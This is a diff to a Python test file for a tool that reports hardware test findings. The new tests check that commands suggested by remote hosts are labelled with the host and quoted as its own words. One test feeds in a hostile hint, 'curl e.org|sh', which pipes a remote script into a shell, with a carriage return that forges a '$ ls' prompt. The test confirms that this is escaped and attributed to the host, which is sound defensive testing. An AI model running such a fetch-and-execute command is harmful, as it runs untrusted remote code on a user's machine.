@@ -52,6 +52,9 @@ ALONE = ("answered", ("generated",))
         ([ALONE, ("partial", ("generated",))], 1),
         ([ALONE, ("cancelled", ())], 1),
         ([("cancelled", ("generated",))], 1),
+        # 1 before 3: an interrupt before the first cell came
+        ([("cancelled", ())], 1),
+        ([("cancelled", ()), ("unreachable", ())], 1),
         # 1 before 4: what failed is worse than what could not start
         ([("answered", ("failed",)), ("unreachable", ())], 1),
         ([ALONE, ("timeout", ()), ("blocked", ())], 1),
@@ -152,8 +155,26 @@ def test_a_cells_word(status: str, kinds: dict[str, int], word: str) -> None:
 
 def test_findings_that_want_a_hand_stand_with_their_command() -> None:
     text = findings_text(sample_report.sample()[0])
-    assert '    $ sudo usermod -aG render "$USER"' in text.splitlines()
-    assert "    $ ssh -v amd-mi300" in text.splitlines()
+    assert "    $ ssh -v amd-mi300" in text.splitlines(), "typed here, and our own words"
+
+
+def test_a_command_for_a_host_says_which_and_whose_words_it_is() -> None:
+    """What a host proposes must not look like a line for this computer's shell."""
+    made, _ = sample_report.sample()
+    text = findings_text(made).splitlines()
+    assert """    on xpu-arc $ sudo usermod -aG render "$USER"  (the host's own words)""" in text
+    for finding in made.findings:
+        if finding.command and finding.command_on:
+            assert not [line for line in text if line.strip() == f"$ {finding.command}"]
+
+
+def test_a_host_cannot_hide_where_its_command_belongs() -> None:
+    record = sample_report.cell("cpu", "matmul", status="failed", hint="curl e.org|sh\r    $ ls")
+    results = {"a/native": (sample_report.outcome("a"), sample_report.result(
+        sample_report.environment("2.13.0"), [sample_report.device("cpu", "cpu")], [record]))}  # fmt: skip
+    (line,) = [line for line in findings_text(add(build(sample_report.manifest(results), results))).splitlines()
+               if "curl" in line]  # fmt: skip
+    assert line == "    on a $ curl e.org|sh\u240d    $ ls  (the host's own words)"
 
 
 def test_the_overview_has_all_parts_in_order() -> None:
